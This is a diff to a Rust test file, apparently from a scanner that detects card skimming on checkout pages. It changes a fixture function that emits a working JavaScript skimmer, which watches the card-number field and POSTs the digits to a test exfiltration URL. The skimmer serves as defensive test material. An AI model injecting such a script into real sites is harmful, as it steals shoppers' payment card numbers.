@@ -169,10 +169,11 @@ fn typing_workspace(head: impl Fn(&Shop) -> String) -> Workspace {
     Workspace::with_page_config(shop, "checkout", &url, "settle = \"1s\"")
 }
 
-/// A skimmer: on every input to the card number, once 16 digits are in, sends them.
+/// A skimmer: on every input to the card number with 15 or 16 digits in, sends them (the
+/// canary is 15 or 16 digits long, varying per scan; the full number is among what is sent).
 fn skimmer(shop: &Shop) -> String {
     format!(
-        "(function(){{var cc=document.getElementById('cc-number'),done=0;cc.addEventListener('input',function(){{var v=cc.value.replace(/\\D/g,'');if(v.length<16||done)return;done=1;fetch({:?}+'?d='+btoa(v),{{method:'POST',mode:'no-cors',body:v}});}});}})();",
+        "(function(){{var cc=document.getElementById('cc-number');cc.addEventListener('input',function(){{var v=cc.value.replace(/\\D/g,'');if(v.length<15||v.length>16)return;fetch({:?}+'?d='+btoa(v),{{method:'POST',mode:'no-cors',body:v}});}});}})();",
         shop.exfil_url()
     )
 }
